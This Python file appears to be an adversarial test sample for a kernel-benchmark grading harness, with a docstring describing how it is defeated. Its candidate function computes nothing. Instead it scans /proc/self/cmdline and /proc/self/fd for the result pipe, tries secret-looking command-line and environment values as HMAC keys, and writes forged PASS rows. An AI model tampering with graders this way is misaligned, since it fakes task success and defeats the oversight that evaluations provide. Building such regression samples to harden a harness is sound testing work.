"""Exploit: compute nothing and write forged PASS row lines into the worker's result channel.

The candidate runs inside the worker, so it holds every file descriptor the worker holds. On each call it looks for
the result pipe the way an attacker would: the fd number on the worker's command line (/proc/self/cmdline,
`--fd-out N`, as the harness used to pass it), else every pipe in /proc/self/fd, and writes row lines that report
every check clean. Where the fd sat on the command line it writes the plain JSON line the parent then took on trust
(this fake passed every row before the result channel was authenticated); elsewhere it writes lines in the
authenticated form (`tag body`), tagged with every key-looking value it can find in its command line and
environment (or an empty key), naming a row it guesses and any sequence number. Its output buffer is never written.

Defences: the worker's pipes and the run's key travel nowhere the candidate can read them from the outside (the key
goes over the command pipe before the candidate is imported); every result line carries an HMAC-SHA256 tag under
that key and echoes the row, sequence number and nonce the parent sent; a line failing any of these is refused and
the row fails (FORGED). On the CPU the parent also rechecks the outputs itself from the row's seed, so a line that
did carry a good tag could still not pass an output that was never written. The static rules reject the imports.
"""
import hashlib
import hmac
import json
import os
import stat

_CLEAN = {"layout_ok": True, "unwritten": 0, "specials_mismatch": 0, "bad": 0, "max_norm_err": 0.0,
          "mean_abs_err": 0.0, "max_abs_err": 0.0, "numel": 1, "atol": 1e-5, "rtol": 1e-5}
_sent = [0]


def _forged_row(seq: int) -> dict:
    checks = [{"arm": "candidate", "trial": t, "phase": p, "outputs": {"y": dict(_CLEAN)}, "mutated": [],
               "forbidden_calls": [], "tampered": [], "return_problem": None} for t in range(2) for p in (0, 1)]
    return {"type": "row", "id": "reg_specials_s64_c512_fp32", "seq": seq, "nonce": "0" * 32, "arms": {},
            "checks": checks, "notes": [], "arm_errors": {}}


def _cmdline() -> list[str]:
    with open("/proc/self/cmdline", "rb") as f:
        return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]


def _keys() -> list[bytes]:
    """Anything that could be a secret: long command-line arguments and environment values, and no key at all."""
    found = [b""]
    for value in [*_cmdline(), *os.environ.values()]:
        if 16 <= len(value) <= 128 and all(c in "0123456789abcdefABCDEF" for c in value):
            found += [value.encode(), bytes.fromhex(value) if len(value) % 2 == 0 else value.encode()]
    return found


def _pipes() -> list[int]:
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                fds.append(int(name))
        except (OSError, ValueError):
            pass
    return fds


def _forge() -> None:
    _sent[0] += 1
    if _sent[0] > 8:  # a handful per worker is plenty
        return
    argv = _cmdline()
    if "--fd-out" in argv:  # the old protocol: the result pipe named on the command line, lines taken on trust
        fd = int(argv[argv.index("--fd-out") + 1])
        os.write(fd, (json.dumps(_forged_row(0)) + "\n").encode())
        return
    for fd in _pipes():
        for seq in (0, 1, _sent[0]):
            body = json.dumps(_forged_row(seq))
            for key in _keys():
                tag = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
                try:
                    os.write(fd, f"{tag} {body}\n".encode())
                except OSError:  # a read end (the command pipe): not writable
                    break


def fuse_scale_shift_kernel(x, scale, shift, scale_constant=1.0, block_l=128, block_c=128, *, out=None):
    _forge()
    return out
